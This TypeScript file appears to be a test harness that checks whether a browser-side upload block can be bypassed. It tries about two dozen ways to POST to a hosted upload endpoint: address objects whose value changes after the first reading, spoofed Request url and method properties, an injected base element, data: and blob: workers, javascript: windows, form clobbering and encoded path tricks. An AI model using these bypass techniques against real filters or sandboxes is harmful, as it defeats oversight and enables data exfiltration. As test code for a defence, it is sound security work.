/**
 * Runs in the page: sends to a hosted service by objects that give another text each time they are read, by classes of the page's own, and by
 * other spellings of its address. Each way of `ways-out.ts` is named in the address. Resolves with what each came to.
 */
export async function sendByObjects(base: string): Promise<Record<string, string>> {
  const outcomes: Record<string, string> = {};
  const wait = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms, 'no answer'));
  const to = (way: string) => `${base}/v2/upload?${encodeURIComponent(way)}`;
  const moved = (way: string) => `${location.origin}/moved-away?${encodeURIComponent(way)}`;
  const post = () => ({ method: 'POST', body: 'words' });
  /** Another text from its n-th reading on. */
  const changing = (later: string, count: number, first = `${location.origin}/arrived`) => {
    let read = 0;
    return { toString: () => (read++ < count ? first : later) } as unknown as string;
  };
  const times = [1, 2, 3, 4, 5];
  const each = (act: (count: number) => unknown) =>
    Promise.allSettled(times.map(async (count) => act(count))).then((all) =>
      all.map((one) => (one.status === 'fulfilled' ? one.value : one.reason)).join(),
    );
  const textOf = (response: Response) => response.text();
  class Lying extends Request {
    override get url() {
      return `${location.origin}/arrived`;
    }
  }
  const script = (address: string) => `fetch('${address}', { method: 'POST', body: 'words' })`;
  const blob = (text: string) => URL.createObjectURL(new Blob([text], { type: 'text/javascript' }));
  const answer = (worker: Worker) =>
    new Promise((resolve) => {
      worker.onmessage = ({ data }) => resolve(data);
      worker.onerror = ({ message }) => resolve(message);
    });
  const attempts: Record<string, (way: string) => unknown> = {
    'request of a class of the page': (way) => fetch(new Lying(to(way), post())).then(textOf),
    'request with an address of its own': (way) => {
      const made = new Request(to(way), post());
      Object.defineProperty(made, 'url', { value: `${location.origin}/arrived` });
      return fetch(made).then(textOf);
    },
    'request with a method of its own, redirected': (way) => {
      const made = new Request(moved(way), post());
      Object.defineProperty(made, 'method', { value: 'GET' });
      return fetch(made).then(textOf);
    },
    'object with an address of its own': (way) =>
      fetch(Object.assign(changing(to(way), 0), { url: `${location.origin}/arrived` }), post()).then(textOf),
    'fetch, an address that changes': (way) =>
      each((count) => fetch(changing(to(way), count), post()).then(textOf)),
    'XMLHttpRequest, an address that changes': (way) =>
      each((count) => {
        const request = new XMLHttpRequest();
        request.open('POST', changing(to(way), count));
        request.send('words');
      }),
    'XMLHttpRequest, a method that changes, redirected': (way) =>
      each((count) => {
        const request = new XMLHttpRequest();
        request.open(changing('GET', count, 'POST'), moved(way));
        request.send('words');
      }),
    'XMLHttpRequest, another base when it is sent': (way) => {
      const request = new XMLHttpRequest();
      const made = document.createElement('base');
      made.href = `${base}/`;
      document.head.prepend(made);
      request.open('POST', `v2/upload?${encodeURIComponent(way)}`);
      made.remove();
      request.send('words');
    },
    'beacon, an address that changes': (way) =>
      each((count) => navigator.sendBeacon(changing(to(way), count), 'words')),
    'WebSocket, an address that changes': (way) =>
      each((count) => new WebSocket(changing(to(way).replace('http', 'ws'), count)).url),
    'EventSource, an address that changes': (way) =>
      each((count) => new EventSource(changing(to(way), count)).url),
    'worker, an address that changes': (way) =>
      each(
        (count) =>
          new Worker(
            changing(
              `data:text/javascript,${encodeURIComponent(script(to(way)))}`,
              count,
              '/visit-worker.js',
            ),
          ),
      ),
    'shared worker, an address that changes': (way) =>
      each(
        (count) =>
          new SharedWorker(changing(blob(script(to(way))), count, '/visit-worker.js'), `${count}`).port,
      ),
    'window, an address that changes': (way) =>
      each(
        (count) =>
          window.open(
            changing(`javascript:void ${encodeURIComponent(script(to(way)))}`, count, 'about:blank'),
          )?.closed,
      ),
    'worker of the constructor of its prototype': (way) => {
      const Own = Worker.prototype.constructor as typeof Worker;
      return answer(new Own(`data:text/javascript,${encodeURIComponent(script(to(way)))}`));
    },
    'document with a property of its own': (way) => {
      const made = document.createElement('form');
      made.name = 'baseURI';
      document.body.append(made);
      return fetch(to(way), post())
        .then(textOf)
        .finally(() => made.remove());
    },
    'form with a field of the name of a method': (way) => {
      const made = document.createElement('form');
      Object.assign(made, { method: 'post', action: to(way), target: '_blank' });
      made.innerHTML = '<input name="getAttribute"><button></button>';
      document.body.append(made);
      made.querySelector('button')?.click();
    },
    'path with a slash as its code': (way) =>
      fetch(`${base}/v2%2fupload?${encodeURIComponent(way)}`, post()).then(textOf),
    'path with a slash as its code, before it': (way) =>
      fetch(`${base}/%2fv2/upload?${encodeURIComponent(way)}`, post()).then(textOf),
    'path with dots and slashes as their codes': (way) =>
      fetch(`${base}/other%2f..%2Fv2%5Cupload?${encodeURIComponent(way)}`, post()).then(textOf),
    'path with dots': (way) => fetch(`${base}/./v2//upload?${encodeURIComponent(way)}`, post()).then(textOf),
    'path without a scheme': (way) =>
      fetch(`${base.replace('http:', '')}/v2/upload?${encodeURIComponent(way)}`, post()).then(textOf),
    'cache, a request with a body': async (way) =>
      (await caches.open('of-page')).add(new Request(to(way), post())).catch(String),
  };
  for (const [way, act] of Object.entries(attempts)) {
    try {
      outcomes[way] = String(await Promise.race([act(way), wait(4_000)]));
    } catch (error) {
      outcomes[way] = String(error);
    }
  }
  await wait(1_500);
  return outcomes;
}
